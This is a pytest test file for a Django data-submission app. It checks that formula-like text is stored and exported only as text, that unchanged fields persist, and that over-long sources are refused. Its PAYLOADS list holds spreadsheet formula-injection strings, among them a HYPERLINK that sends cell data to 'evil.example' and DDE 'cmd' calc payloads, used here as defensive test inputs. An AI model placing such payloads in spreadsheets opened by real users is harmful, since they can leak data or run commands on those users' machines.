"""Issue 9 (web, items 2, 3 and 6), through HTTP: what a user did not change is kept, text is never a
formula, nothing is deleted by omission, a value too long is refused (never cut).

Each class is tried with generated cases: every formula trigger × payload, every "no data" word,
every subset of lines left out of a forged POST, sources with full-width brackets.
"""

from __future__ import annotations

import html.parser
import io
import itertools
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from planwatch.domain.enums import Measure
from planwatch.domain.spreadsheet_text import FORMULA_TRIGGERS, csv_text
from planwatch.ingest.values import MISSING_MARKERS
from planwatch_web.accounts.models import User
from planwatch_web.audit.models import AuditEntry
from planwatch_web.core.plan import get_plan
from planwatch_web.submissions import actions
from planwatch_web.submissions.models import DataValue, Submission
from planwatch_web.submissions.validation import ValueInput

pytestmark = pytest.mark.django_db

LINES = ("scale_enterprises:level", "new_scale_enterprises:ytd", "county_sci_parks:level")
PAYLOADS = (
    'HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|'/C calc'!A0",
)
INJECTIONS = [t + p for t, p in itertools.product(FORMULA_TRIGGERS, PAYLOADS)]


class _Inputs(html.parser.HTMLParser):
    """The grid's text inputs as a browser would post them back (name → value)."""

    def __init__(self) -> None:
        super().__init__()
        self.fields: dict[str, str] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "input" and a.get("name") and a.get("type") in ("text", "hidden"):
            self.fields[str(a["name"])] = a.get("value") or ""


def _page_fields(client: Client, sub: Submission) -> dict[str, str]:
    parser = _Inputs()
    parser.feed(client.get(reverse("submissions:detail", args=[sub.pk])).content.decode())
    parser.fields.pop("csrfmiddlewaretoken", None)
    return parser.fields


def _fill(
    user: User, sub: Submission, values: tuple[float, float, float], source: str, note: str = ""
) -> None:
    sub.refresh_from_db()
    actions.do_save_values(
        user,
        sub.pk,
        [
            ValueInput("scale_enterprises", Measure.LEVEL, values[0], note, source),
            ValueInput("new_scale_enterprises", Measure.YTD, values[1], note, source),
            ValueInput("county_sci_parks", Measure.LEVEL, values[2], note, source),
        ],
        expected_version=sub.version,
    )


def _stored(sub: Submission) -> dict[str, tuple[float | None, str, str]]:
    return {dv.line_key: (dv.value, dv.source, dv.note) for dv in DataValue.objects.filter(submission=sub)}


def _upload(client: Client, sub: Submission, wb: Any, name: str = "吉首市.xlsx") -> Any:
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    buf.name = name
    return client.post(reverse("submissions:upload", args=[sub.pk]), {"file": buf})


def _template(client: Client, sub: Submission) -> bytes:
    response = client.get(reverse("submissions:template", args=[sub.pk]))
    assert response.status_code == 200
    return response.content


# -- 2. formula injection -------------------------------------------------------------------------------
def test_every_formula_like_source_and_note_comes_back_as_text_in_the_template(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission]
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    for text in INJECTIONS:
        _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source=text, note=text)
        data = _template(client, sub)
        sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml, text  # no formula anywhere in the sheet
        ws = openpyxl.load_workbook(
            io.BytesIO(data)
        ).active  # formulas are kept as formulas when not data_only
        for row in (2, 3, 4):
            for column in ("G", "H"):  # 来源, 备注
                cell = ws[f"{column}{row}"]
                assert (cell.value, cell.data_type) == (text, "s"), (text, cell.coordinate)
        # every other text cell of the template (names, hints) is text as well
        assert all(c.data_type in ("s", "n") for r in ws.iter_rows() for c in r if c.value is not None)


def test_a_template_with_formula_like_text_uploads_back_unchanged(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission]
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    text = '=HYPERLINK("http://evil.example","点这里")'
    _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source=text)
    before = AuditEntry.objects.count()
    wb = openpyxl.load_workbook(io.BytesIO(_template(client, sub)))
    assert _upload(client, sub, wb).status_code == 302
    assert {v[1] for v in _stored(sub).values()} == {text}
    assert AuditEntry.objects.count() == before  # nothing changed, nothing logged


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_text_escapes_every_formula_trigger(text: str) -> None:
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["吉首市统计局", "规模工业企业数", "2025Q3", "", -5.5, 12.0, None])
def test_csv_text_leaves_plain_text_and_numbers_alone(value: object) -> None:
    assert csv_text(value) == value  # a negative number stays a number (never "'-5.5")


# -- 3. the grid keeps each line's source ---------------------------------------------------------------
@pytest.mark.parametrize(
    "source", ["吉首市统计局（月报）", "县统计局【快报】", "Ｓｔａｔｓ　ｏｆｆｉｃｅ", "=1+1", "x" * 255]
)
def test_posting_the_page_back_unchanged_changes_nothing(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission], source: str
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source=source, note="（含新投产企业）")
    before, audits = _stored(sub), AuditEntry.objects.count()
    fields = _page_fields(client, sub)
    assert fields["s__scale_enterprises:level"] == source  # the box is pre-filled
    response = client.post(
        reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"}, follow=True
    )
    assert "没有需要保存的修改" in response.content.decode()
    assert _stored(sub) == before and AuditEntry.objects.count() == audits


def test_changing_one_value_keeps_every_other_lines_source(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission]
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source="吉首市统计局（月报）")
    fields = _page_fields(client, sub)
    fields["v__scale_enterprises:level"] = "50"
    client.post(reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"})
    assert _stored(sub) == {
        "scale_enterprises:level": (50.0, "吉首市统计局（月报）", ""),
        "new_scale_enterprises:ytd": (6.0, "吉首市统计局（月报）", ""),
        "county_sci_parks:level": (1.0, "吉首市统计局（月报）", ""),
    }


def test_a_changed_or_emptied_source_is_saved_and_shown_in_the_history(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission]
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source="旧来源")
    fields = _page_fields(client, sub)
    fields["s__scale_enterprises:level"] = "县统计局快报"
    fields["s__county_sci_parks:level"] = ""  # emptied: the documented default
    response = client.post(
        reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"}, follow=True
    )
    page = response.content.decode()
    assert "已保存 2 项修改" in page
    stored = _stored(sub)
    assert stored["scale_enterprises:level"][1] == "县统计局快报"
    assert stored["new_scale_enterprises:ytd"][1] == "旧来源"
    assert stored["county_sci_parks:level"][1] == "吉首市填报（2025Q3）"
    # 修改记录: a change of the source alone reads before → after
    assert "来源：旧来源" in page and "来源：县统计局快报" in page and "来源：吉首市填报（2025Q3）" in page


def test_upload_keeps_full_width_brackets_and_blank_sources_keep_the_stored_one(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission]
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source="吉首市统计局（月报）", note="含新投产企业（2家）")
    audits = AuditEntry.objects.count()
    wb = openpyxl.load_workbook(io.BytesIO(_template(client, sub)))
    assert _upload(client, sub, wb).status_code == 302  # the same file back: the reader folds （） to ()
    assert {v[1:] for v in _stored(sub).values()} == {("吉首市统计局（月报）", "含新投产企业（2家）")}
    assert AuditEntry.objects.count() == audits  # and no change is logged

    ws = wb.active
    ws["E2"], ws["G2"], ws["G3"] = 50, None, None  # a new value; two sources blanked
    assert _upload(client, sub, wb).status_code == 302
    stored = _stored(sub)
    assert stored["scale_enterprises:level"][:2] == (50.0, "吉首市统计局（月报）")  # kept, not the file name
    assert stored["new_scale_enterprises:ytd"][1] == "吉首市统计局（月报）"
    assert AuditEntry.objects.count() == audits + 1  # only the value changed


def test_upload_of_a_new_line_without_source_gets_the_documented_default(
    login: Callable[[str], Client], subs: dict[str, Submission]
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    wb = openpyxl.load_workbook(io.BytesIO(_template(client, sub)))
    wb.active["E2"] = 48
    assert _upload(client, sub, wb, name="吉首市2025Q3.xlsx").status_code == 302
    assert _stored(sub) == {"scale_enterprises:level": (48.0, "吉首市填报（2025Q3）", "")}


# -- 6. values: refuse or keep, never delete by omission -------------------------------------------------
NO_DATA_WORDS = [*sorted(m for m in MISSING_MARKERS if m), "NaN", "NULL", "ＮＡ"]


@pytest.mark.parametrize("word", NO_DATA_WORDS)
def test_a_no_data_word_typed_over_a_stored_value_is_refused(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission], word: str
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source="县统计局")
    fields = _page_fields(client, sub)
    fields["v__scale_enterprises:level"] = word
    response = client.post(reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"})
    assert response.status_code == 400
    assert "已填的数值未删除" in response.content.decode()
    assert _stored(sub)["scale_enterprises:level"][0] == 48.0


def test_emptying_a_box_still_removes_its_value(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission]
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source="县统计局")
    fields = _page_fields(client, sub)
    fields["v__county_sci_parks:level"] = ""
    client.post(reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"})
    assert set(_stored(sub)) == {"scale_enterprises:level", "new_scale_enterprises:ytd"}


@pytest.mark.parametrize("left_out", [c for n in (1, 2, 3) for c in itertools.combinations(LINES, n)])
def test_a_post_that_leaves_out_lines_keeps_them(
    login: Callable[[str], Client],
    users: dict[str, User],
    subs: dict[str, Submission],
    left_out: tuple[str, ...],
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source="县统计局")
    before = _stored(sub)
    fields = {k: v for k, v in _page_fields(client, sub).items() if k.split("__", 1)[-1] not in left_out}
    client.post(reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"})
    assert _stored(sub) == before


@pytest.mark.parametrize(("length", "ok"), [(254, True), (255, True), (256, False), (1000, False)])
def test_a_source_over_255_characters_is_refused_not_cut(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission], length: int, ok: bool
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    fields = _page_fields(client, sub)
    fields.update({"v__scale_enterprises:level": "48", "s__scale_enterprises:level": "源" * length})
    response = client.post(reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"})
    stored = _stored(sub)
    if ok:
        assert response.status_code == 302 and stored["scale_enterprises:level"][1] == "源" * length
    else:
        assert response.status_code == 400 and not stored
        assert f"数据来源不能超过 255 个字（现为 {length} 个字）" in response.content.decode()


def test_an_upload_with_a_source_over_255_characters_is_refused(
    login: Callable[[str], Client], subs: dict[str, Submission]
) -> None:
    client, sub = login("jishou"), subs["jishou"]
    wb = openpyxl.load_workbook(io.BytesIO(_template(client, sub)))
    wb.active["E2"], wb.active["G2"] = 48, "源" * 256
    response = _upload(client, sub, wb)
    assert response.status_code == 400
    assert "来源有 256 个字，超过上限 255 个字" in response.content.decode()
    assert not _stored(sub)


def test_last_year_shows_the_approved_value_of_the_same_period(
    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission]
) -> None:
    last = actions.do_open_period(users["admin"], "2024Q3", scopes=["jishou"])
    sub_2024 = Submission.objects.get(period=last, scope_id="jishou")
    _fill(users["jishou"], sub_2024, (44.0, 5.0, 1.0), source="县统计局")
    actions.do_submit(users["jishou"], sub_2024.pk)
    actions.do_approve(users["admin"], sub_2024.pk)
    fields = _page_fields(login("jishou"), subs["jishou"])
    assert "v__scale_enterprises:level" in fields
    page = login("jishou").get(reverse("submissions:detail", args=[subs["jishou"].pk])).content.decode()
    assert '<td class="num">44</td>' in page  # 2024Q3's approved 规模工业企业数


def test_last_year_falls_back_to_the_plans_own_figure(
    login: Callable[[str], Client], users: dict[str, User]
) -> None:
    period = actions.do_open_period(users["admin"], "2021", scopes=["xiangxi"])
    sub = Submission.objects.get(period=period, scope_id="xiangxi")
    from planwatch.domain.periods import Period

    reported = get_plan().history_observations().get("industrial_output", "xiangxi", Period.parse("2020"))
    assert reported is not None  # the plan states 2020's 工业总产值 (547.7 亿元 in the bundled plan)
    page = login("admin").get(reverse("submissions:detail", args=[sub.pk])).content.decode()
    row = page.split("v__industrial_output:level")[0].rsplit("<tr", 1)[1]
    assert f'<td class="num">{reported.value:g}</td>' in row
